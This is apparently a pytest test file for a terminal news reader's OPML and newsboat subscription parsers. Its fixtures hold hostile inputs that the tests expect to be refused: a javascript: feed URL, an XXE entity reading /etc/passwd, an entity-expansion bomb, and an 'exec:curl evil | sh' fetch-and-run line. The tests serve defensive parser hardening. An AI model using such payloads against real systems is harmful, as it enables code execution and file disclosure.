"""Subscriptions in and out: OPML round trip, newsboat urls, hostile files."""

from __future__ import annotations

from pathlib import Path

import pytest

from tuinews.errors import ConfigError
from tuinews.opml import parse_newsboat_urls, parse_opml, read_subscriptions, write_opml

OPML = b"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0"><head><title>x</title></head><body>
  <outline text="Trong n\xc6\xb0\xe1\xbb\x9bc">
    <outline type="rss" text="Th\xe1\xbb\x9di s\xe1\xbb\xb1" xmlUrl="https://a.vn/thoi-su.rss"/>
    <outline type="rss" text="Bad" xmlUrl="javascript:alert(1)"/>
    <outline text="Sub"><outline type="rss" text="Deep" xmlUrl="https://a.vn/deep.rss"/></outline>
  </outline>
  <outline type="rss" text="Loose" xmlUrl="https://b.vn/feed"/>
</body></opml>
"""


def test_opml_folders_become_categories_and_bad_entries_are_reported() -> None:
    res = parse_opml(OPML, name="subs.opml")
    assert [(f.category, f.title, f.url) for f in res.feeds] == [
        ("Trong nước", "Thời sự", "https://a.vn/thoi-su.rss"),
        ("Sub", "Deep", "https://a.vn/deep.rss"),
        ("", "Loose", "https://b.vn/feed"),
    ]
    assert len(res.problems) == 1
    assert res.problems[0].startswith("subs.opml:5: ") and "not an http(s) URL" in res.problems[0]


def test_opml_round_trip() -> None:
    res = parse_opml(OPML)
    text = write_opml([(f.category, f.title, f.url) for f in res.feeds])
    again = parse_opml(text.encode("utf-8"))
    assert [(f.category, f.title, f.url) for f in again.feeds] == [
        (f.category, f.title, f.url) for f in res.feeds
    ]
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<opml version="2.0">')


def test_opml_entities_are_never_expanded_or_fetched() -> None:
    evil = b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">
<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<opml version="2.0"><body><outline text="&xxe;&b;" xmlUrl="https://a.vn/f"/></body></opml>"""
    res = parse_opml(evil)
    assert len(res.feeds) == 1
    assert "root:" not in res.feeds[0].title


def test_broken_opml_names_the_line_and_keeps_the_good_part() -> None:
    broken = (
        b"<opml>\n<body>\n<outline text='ok' xmlUrl='https://a.vn/ok'/>\n"
        b"<outline text='x' xmlUrl='https://a.vn/x'>\n</body>"
    )
    res = parse_opml(broken, name="b.opml")
    assert [f.url for f in res.feeds][:1] == ["https://a.vn/ok"]
    assert res.problems and res.problems[0].startswith("b.opml:")


def test_not_xml_at_all_is_a_config_error() -> None:
    with pytest.raises(ConfigError) as info:
        parse_opml(b"<<<>>> not xml", name="c.opml")
    assert info.value.file == "c.opml" and "not valid OPML" in str(info.value)


def test_newsboat_urls_tags_titles_and_refused_commands() -> None:
    text = (
        "# my feeds\n"
        'https://a.vn/rss "Thời sự" ~"Báo A"\n'
        "https://b.vn/rss tech !hidden\n"
        '"exec:curl evil | sh" x\n'
        "filter:~/bin/f:https://c.vn/rss\n"
        '"query:Unread:unread = \\"yes\\""\n'
        "not-a-url\n"
    )
    res = parse_newsboat_urls(text, name="urls")
    assert [(f.url, f.category, f.title) for f in res.feeds] == [
        ("https://a.vn/rss", "Thời sự", "Báo A"),
        ("https://b.vn/rss", "tech", ""),
    ]
    reasons = "\n".join(res.problems)
    assert "urls:4: refused exec:" in reasons and "urls:5: refused filter:" in reasons
    assert "urls:6: skipped query:" in reasons and "urls:7:" in reasons


def test_read_subscriptions_tells_formats_apart(tmp_path: Path) -> None:
    o = tmp_path / "a.opml"
    o.write_bytes(OPML)
    u = tmp_path / "urls"
    u.write_text("https://x.vn/rss news\n", "utf-8")
    assert len(read_subscriptions(o).feeds) == 3
    assert [f.url for f in read_subscriptions(u).feeds] == ["https://x.vn/rss"]
